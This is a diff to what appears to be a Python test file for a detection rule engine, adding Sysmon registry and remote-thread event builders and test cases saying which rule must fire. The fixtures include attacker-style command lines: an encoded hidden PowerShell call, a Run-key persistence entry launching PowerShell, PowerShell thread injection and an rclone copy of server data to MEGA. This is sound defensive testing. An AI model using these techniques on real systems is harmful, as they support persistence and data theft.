@@ -161,6 +161,20 @@ def _wmi_binding(operation: str, consumer: str) -> dict[str, Any]:
                          "Filter": ' "__EventFilter.Name=\\"WSUS_QQTJ7\\""'}}
 
 
+def _registry_set(key: str, details: str) -> dict[str, Any]:
+    """Sysmon 13 as the Windows normaliser gives it."""
+    return {"event_type": "registry", "action": "registry_set", "source": {"host": "WS-5", "user": "pgustavo"},
+            "unmapped": {"EventID": 13, "TargetObject": key, "Details": details}}
+
+
+def _remote_thread(source: str, target: str) -> dict[str, Any]:
+    """Sysmon 8 (CreateRemoteThread) as the Windows normaliser gives it."""
+    return {"event_type": "process", "action": "create_remote_thread", "source": {"host": "WS-5"},
+            "process": {"name": source},
+            "unmapped": {"EventID": 8, "SourceImage": f"C:\\Windows\\System32\\{source}",
+                         "TargetImage": f"C:\\Windows\\System32\\{target}", "StartFunction": "-"}}
+
+
 # (event fields, rule id that must fire or None for "no rule at all")
 SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("encoded powershell", _process("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
@@ -260,6 +274,18 @@ SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
     ("Windows' event log consumer", _wmi_binding("Created", 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"'),
      None),
     ("Windows' BVT consumer", _wmi_binding("Created", 'CommandLineEventConsumer.Name="BVTConsumer"'), None),
+    ("a run key that starts powershell", _registry_set(
+        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
+        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c "$x=$((gp HKLM:Software\\x).x)"'),
+     "PERSIST-RUN-KEY-POWERSHELL"),
+    ("a run key that starts Teams", _registry_set(
+        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams",
+        'C:\\Users\\x\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"'), None),
+    ("powershell in another key", _registry_set(
+        "HKLM\\SOFTWARE\\Classes\\Microsoft.PowerShellScript.1\\Shell\\Open\\Command",
+        '"C:\\Windows\\System32\\notepad.exe" "%1"'), None),
+    ("powershell injects a thread", _remote_thread("powershell.exe", "notepad.exe"), "PROC-POWERSHELL-REMOTE-THREAD"),
+    ("csrss's console control thread", _remote_thread("csrss.exe", "powershell.exe"), None),
     ("rclone to mega", _process("rclone copy /srv/data mega:dump --transfers 8"), "EXFIL-RCLONE-CLOUD"),
     ("big upload to internet",
      {"event_type": "network", "source": {"ip": "10.10.1.31"}, "destination": {"ip": "185.199.110.153"},
